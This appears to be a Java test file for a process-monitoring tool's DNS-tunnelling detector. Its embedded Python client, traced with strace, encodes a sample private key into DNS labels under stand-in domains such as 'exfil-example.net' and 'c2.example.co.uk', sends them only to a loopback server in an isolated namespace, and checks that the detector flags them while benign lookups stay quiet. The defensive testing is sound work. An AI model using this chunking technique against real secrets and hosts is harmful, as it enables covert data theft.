package io.procguard.ml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.procguard.core.process.ProcessRecord;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Schemas 51 to 53: {@code ind.dns_tunnel}, with and without {@code -yy}, by one process and by a shell loop's
 * children. A Python client asks a loopback name server for names given to it, in a network namespace of its own, under
 * the real strace: data cut into labels under one domain (hex, base32, long and short
 * chunks, names so long strace's {@code -s 256} cuts them) against what must stay quiet (a mail scanner's hash lookups,
 * one long name asked again and again, long names under different domains, load balancers' names). Real strace, real
 * processes; the feature decides, not the forest.
 */
class DnsTunnelTest {
    /**
     * Sends one DNS question for each of {@code argv[2..]} to 127.0.0.1:53, by {@code argv[1]}: {@code sendto} on an
     * unconnected socket, {@code send} or {@code sendmsg} on a connected one; with {@code +aaaa} after the word, each
     * name is asked for twice, type A and then AAAA (28), as resolvers do. Nothing answers.
     */
    private static final String CLIENT = "import socket,struct,subprocess,sys\n"
            + "subprocess.run(['ip','link','set','lo','up'],check=True)\n"
            + "how,_,aaaa=sys.argv[1].partition('+'); server=('127.0.0.1',53)\n"
            + "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
            + "if how!='sendto': s.connect(server)\n"
            + "for i,(name,t) in enumerate((n,t) for n in sys.argv[2:] for t in ([1,28] if aaaa else [1])):\n"
            + "    q=struct.pack('>HHHHHH',i+1,0x100,1,0,0,0)+b''.join(bytes([len(l)])+l.encode() for l in name.split('.'))+b'\\0'+struct.pack('>HH',t,1)\n"
            + "    try:\n"
            + "        s.sendto(q,server) if how=='sendto' else s.sendmsg([q]) if how=='sendmsg' else s.send(q)\n"
            + "    except ConnectionRefusedError:\n"
            + "        s.send(q) if how=='send' else s.sendmsg([q]) if how=='sendmsg' else None\n";

    @TempDir
    Path dir;

    @BeforeEach
    void needsStraceAndPython() {
        StraceRuns.assumeStrace();
        StraceRuns.assumePython();
        StraceRuns.assumeLoopbackNamespace();
    }

    private ProcessRecord ask(String how, List<String> names) throws Exception {
        return ask(StraceRuns.RECOMMENDED, how, names);
    }

    private ProcessRecord ask(List<String> flags, String how, List<String> names) throws Exception {
        Files.writeString(dir.resolve("client.py"), CLIENT);
        Path log = Files.createTempFile(dir, "trace", ".log");
        List<String> argv = new ArrayList<>(List.of("/usr/bin/unshare", "-n", "strace"));
        argv.addAll(flags);
        argv.addAll(List.of("-o", log.toString(), TrainedModels.PYTHON.toString(), dir.resolve("client.py").toString(), how));
        argv.addAll(names);
        StraceRuns.runToEnd(argv);
        return StraceRuns.pythonProcess(log, "client.py");
    }

    private static float tunnel(ProcessRecord p) {
        return p.features().get("ind.dns_tunnel");
    }

    /** @return {@code text} cut into labels of {@code size}, {@code perName} to a name, under {@code domain} */
    private static List<String> chunks(String text, int size, int perName, String domain) {
        List<String> labels = new ArrayList<>();
        for (int i = 0; i < text.length(); i += size) {
            labels.add(text.substring(i, Math.min(text.length(), i + size)));
        }
        List<String> names = new ArrayList<>();
        for (int i = 0; i < labels.size(); i += perName) {
            names.add(String.join(".", labels.subList(i, Math.min(labels.size(), i + perName))) + "." + domain);
        }
        return names;
    }

    private static final String SECRET = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW"
            + "QyNTUxOQAAACDzvSPpVw1QmCq0fKp3jWc9W2o7x0M3f7pQ\n-----END OPENSSH PRIVATE KEY-----\n";

    @Test
    void dataCutIntoNamesUnderOneDomainIsTunnelling() throws Exception {
        String hex = HexFormat.of().formatHex(SECRET.getBytes(StandardCharsets.UTF_8));
        for (String how : List.of("sendto", "send", "sendmsg")) {
            ProcessRecord p = ask(how, chunks(hex, 36, 1, "exfil-example.net"));
            assertThat(tunnel(p)).as("hex, 36 a name, " + how).isEqualTo(1f);
            assertThat(p.evidence()).as(how).anySatisfy(line -> assertThat(line).contains("exfil-example").contains("53"));
            assertThat(p.features().get("ind.max_severity")).isEqualTo(3f);
        }
        String base32 = new String(java.util.Base64.getEncoder().encode(SECRET.repeat(3).getBytes(StandardCharsets.UTF_8)), StandardCharsets.US_ASCII)
                .replaceAll("[^A-Za-z0-9]", "").toLowerCase();
        assertThat(tunnel(ask("sendto", chunks(base32, 60, 4, "c2.example.co.uk")))).as("names strace cuts at 256").isEqualTo(1f);
        assertThat(tunnel(ask("sendto", chunks(hex, 18, 1, "t.example.org").subList(0, 16)))).as("16 short chunks").isEqualTo(1f);
        assertThat(tunnel(ask("sendto", chunks(hex, 18, 1, "t.example.org").subList(0, 15)))).as("15 short chunks").isZero();
        assertThat(tunnel(ask("sendto+aaaa", chunks(hex, 36, 1, "exfil-example.net").subList(0, 3)))).as("3 long chunks, A and AAAA each")
                .isZero();
        assertThat(tunnel(ask("send+aaaa", chunks(hex, 36, 1, "exfil-example.net").subList(0, 4)))).as("4 long chunks, A and AAAA each")
                .isEqualTo(1f);
    }

    @Test
    void withoutYyTheCallsAddressOrTheConnectTellsTheNameServer() throws Exception {
        // schema 52: -yy names no socket here; sendto names port 53, and send/sendmsg go on the socket connect aimed there
        List<String> names = chunks(HexFormat.of().formatHex(SECRET.getBytes(StandardCharsets.UTF_8)), 36, 1, "exfil-example.net");
        for (String how : List.of("sendto", "send", "sendmsg")) {
            assertThat(tunnel(ask(List.of("-f", "-s", "256"), how, names))).as(how + " without -yy").isEqualTo(1f);
        }
    }

    /**
     * Runs {@code getent hosts NAME} for each name, one process each, from a shell loop, under strace, in a network and
     * mount namespace of their own whose {@code /etc/resolv.conf} names 127.0.0.1 (bind-mounted over the host's only
     * there). {@code $1} the resolv.conf, {@code $2} the log, then the names: arguments, never part of the script.
     */
    private static final String SHELL_LOOP = "set -e; mount --bind \"$1\" /etc/resolv.conf; ip link set lo up; log=$2; shift 2; "
            + "exec strace -f -ttt -T -yy -s 256 -o \"$log\" /bin/sh -c 'for n in \"$@\"; do getent hosts \"$n\" || true; done' sh \"$@\"";

    private List<ProcessRecord> shellLoop(List<String> names) throws Exception {
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/getent")), "no getent (libc-bin) here");
        Path resolv = dir.resolve("resolv.conf");
        Files.writeString(resolv, "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n");
        Path log = dir.resolve("loop.log");
        List<String> argv = new ArrayList<>(List.of("/usr/bin/unshare", "-n", "-m", "--propagation", "private", "/bin/sh", "-c",
                SHELL_LOOP, "sh", resolv.toString(), log.toString()));
        argv.addAll(names);
        StraceRuns.runToEnd(argv);
        assumeTrue(Files.exists(log), "a mount namespace could not be made here (unshare -m needs root)");
        return StraceRuns.processes(log, new BehaviourFeatures()).stream().filter(p -> p.comm().equals("getent")).toList();
    }

    @Test
    void aShellLoopAskingOneChunkAProcessIsTunnellingFromTheFourthOn() throws Exception {
        // schema 53: one question a process; the children of one shell count together
        List<ProcessRecord> getents = shellLoop(chunks(HexFormat.of().formatHex(SECRET.getBytes(StandardCharsets.UTF_8)), 36, 1,
                "exfil-example.net").subList(0, 6));
        assertThat(getents).hasSize(6);
        assertThat(getents.stream().map(DnsTunnelTest::tunnel).toList()).as("in the order they ended").containsExactly(0f, 0f, 0f, 1f, 1f, 1f);
        List<String> everyday = new ArrayList<>(List.of("www.example.com", "deb.debian.org", "security.debian.org", "api.github.com"));
        for (int i = 0; i < 6; i++) {
            everyday.add(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(("mail " + i).getBytes(StandardCharsets.UTF_8)))
                    + ".malware.hash.cymru.com");
        }
        assertThat(shellLoop(everyday)).as("everyday names and a scanner's hash lookups").hasSize(10).allSatisfy(p -> assertThat(tunnel(p)).isZero());
    }

    @Test
    void hashLookupsRetriesAndServiceNamesAreNot() throws Exception {
        List<String> scanner = new ArrayList<>();
        for (int i = 0; i < 10; i++) {
            byte[] attachment = ("attachment " + i).getBytes(StandardCharsets.UTF_8);
            String md5 = HexFormat.of().formatHex(MessageDigest.getInstance("MD5").digest(attachment));
            String sha1 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(attachment));
            String sha256 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(attachment));
            scanner.addAll(List.of(md5 + ".malware.hash.cymru.com", sha1 + ".malware.hash.cymru.com",
                    sha256 + ".lookup.unlisted-av.example"));
        }
        assertThat(tunnel(ask("send", scanner))).as("a mail scanner's hash lookups").isZero();
        String longName = "0123456789abcdef0123456789abcdef01234567.9876543210fedcba9876543210.example.com";
        assertThat(tunnel(ask("sendto", IntStream.range(0, 20).mapToObj(i -> longName).toList()))).as("one name asked again").isZero();
        assertThat(tunnel(ask("sendto", IntStream.range(0, 8).mapToObj(i -> "0123456789abcdef0123456789abcdef0123456" + i
                + ".example" + i + ".com").toList()))).as("long names, each under another domain").isZero();
        assertThat(tunnel(ask("sendmsg", IntStream.range(0, 20).mapToObj(i -> "internal-k8s-prod-api-" + (1_000_000_000L + i * 7919L)
                + ".eu-west-1.elb.amazonaws.com").toList()))).as("load balancers' names").isZero();
    }

    @Test
    void theQuestionsDataIsReadFromTheMessage() {
        String header = "\u0012\u0034\u0001\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000";
        String data = "6b65793d3132333435363738393061626364656667";
        Indicators.TunnelQuestion q = Indicators.dnsTunnelQuestion(header + message("s01." + data + ".Evil.Example.com"));
        assertThat(q).isNotNull();
        assertThat(q.domain()).isEqualTo("example.com");
        assertThat(q.text()).isEqualTo(3 + data.length() + 4);
        assertThat(q.isLong()).isTrue();
        assertThat(Indicators.dnsTunnelQuestion(header + message(data + ".evil.co.uk")).domain()).isEqualTo("evil.co.uk");
        assertThat(Indicators.dnsTunnelQuestion(header + message("6b65793d31323334353637.x.io")).isLong()).as("short").isFalse();
        assertThat(Indicators.dnsTunnelQuestion(header + message("www.example.com"))).isNull();
        assertThat(Indicators.dnsTunnelQuestion(header + message("abcdefghijklmnopqrstuvwxyzabcdefgh.example.com"))).as("no digit").isNull();
        assertThat(Indicators.dnsTunnelQuestion(header + message("44d88612fea8a8f36de82e1278abb02f.hashes.example.com")))
                .as("one MD5-sized label").isNull();
        assertThat(Indicators.dnsTunnelQuestion(header + message("d4mbvrrh2oq2k3y4ks5nkgdm5bvyw5xc3zpnqgo4bmv7wwvtc4ya._file.x.hbl.dq.spamhaus.net")))
                .as("a reputation zone").isNull();
        String cut = "\u003f" + "a1".repeat(31) + "b" + "\u003f" + "c2".repeat(31) + "d" + "\u003f" + "e3".repeat(20);
        assertThat(Indicators.dnsTunnelQuestion(header + cut)).as("cut by -s, 126 read").isNull();
        String longCut = "\u003f" + "a1".repeat(31) + "b" + "\u003f" + "c2".repeat(31) + "d" + "\u003f" + "e3".repeat(31) + "f" + "\u003f";
        assertThat(Indicators.dnsTunnelQuestion(header + longCut).domain()).as("cut by -s, 189 read").isEmpty();
        assertThat(Indicators.dnsTunnelQuestion(null)).isNull();
    }

    /** @return a question's name as DNS writes it: each label after its length, a zero byte, type A, class IN */
    private static String message(String name) {
        StringBuilder sb = new StringBuilder();
        for (String label : name.split("\\.")) {
            sb.append((char) label.length()).append(label);
        }
        return sb.append("\u0000\u0000\u0001\u0000\u0001").toString();
    }
}
